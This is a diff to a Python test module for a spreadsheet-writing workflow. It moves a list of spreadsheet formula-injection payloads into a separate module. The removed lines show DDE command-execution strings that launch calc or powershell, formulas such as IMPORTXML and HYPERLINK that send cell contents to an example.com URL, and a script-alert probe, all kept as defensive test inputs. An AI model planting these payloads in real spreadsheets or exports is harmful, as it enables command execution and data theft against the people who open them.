@@ -14,6 +14,7 @@ import pytest
 from typer.testing import CliRunner
 
 from tests.factory_firm import RESPONSES, REVIEW, ROSTER, Firm
+from tests.factory_payloads import PAYLOADS
 from tests.factory_registrations import ASKED, AT, ROSTER_HEADER, Office, answer, by_id
 from tests.sheets_emulator.grid import Spreadsheet
 from tests.sheets_emulator.server import Fault, World
@@ -24,69 +25,7 @@ from workflows.settings import ROOT
 MARK = "ｶﾅﾘｱ7391"
 FAULTS: list[Fault] = ["400", "503", "commit-503", "commit-reset", "hang", "html-502", "429", "401"]
 
-PAYLOADS = [
-    *(f"{sign}{rest}" for sign in ("=", "+", "-", "@") for rest in ("1+1", "SUM(A1:A9)", "A1", "cmd|'/C calc'!A0")),
-    *(f"{lead}=1+1" for lead in ("\t", "\r", "\n", " ", "　", "'", '"', "''", "\ufeff", "\u200b")),
-    *(
-        "＝1+1",
-        "＋1",
-        "－1",
-        "＠SUM(A1)",
-        "=　1+1",
-        "=\t1+1",
-        "==1",
-        "=-1",
-        "=+1",
-        "=@A1",
-        "=(1)",
-        '="1"',
-        "='1'",
-        "=#REF!",
-    ),
-    '=HYPERLINK("https://example.com/?"&A1,"こちら")',
-    '=IMPORTXML(CONCAT("https://example.com/?v=",A1),"//a")',
-    '=IMPORTDATA("https://example.com/x.csv")',
-    '=IMPORTHTML("https://example.com","table",1)',
-    '=IMPORTFEED("https://example.com/feed")',
-    '=IMPORTRANGE("1abc","A1")',
-    '=IMAGE("https://example.com/a.png")',
-    '=QUERY(A:Z,"select *")',
-    "={1,2;3,4}",
-    "=ARRAYFORMULA(A:A)",
-    "{=SUM(A1:A3*B1:B3)}",
-    '=WEBSERVICE("https://example.com/")',
-    '=FILTERXML("<a/>","//a")',
-    '=DDE("cmd";"/C calc";"x")',
-    "=cmd|'/C powershell'!A1",
-    "@SUM(1+1)*cmd|'/C calc'!A0",
-    '+thespanishinquisition("x")',
-    "-2+3+cmd|'/C calc'!D2",
-    '=RTD("a",,"b")',
-    '=CALL("user32","MessageBoxA","JJCCJ",0,"a","b",0)',
-    '=REGISTER.ID("a","b")',
-    '=EXEC("calc.exe")',
-    "=GOOGLEFINANCE(A1)",
-    '=INDIRECT("A1")',
-    "=LAMBDA(x,x)(1)",
-    "=LET(x,1,x)",
-    "=XLOOKUP(A1,B:B,C:C)",
-    "=1;=2",
-    '","=1+1',
-    "a,=1+1",
-    "http://example.com",
-    "1/2",
-    "00123",
-    "1E5",
-    "TRUE",
-    "2026/4/1",
-    "#N/A",
-    "<script>alert(1)</script>",
-]
 FREE = ("name", "former_name", "kana", "birth_date", "employee_id", "tenure", "department", "phone", "message", "ways")
-
-
-def test_there_are_enough_ways_to_do_harm() -> None:
-    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
 
 
 def harmful() -> list[dict[str, object]]:
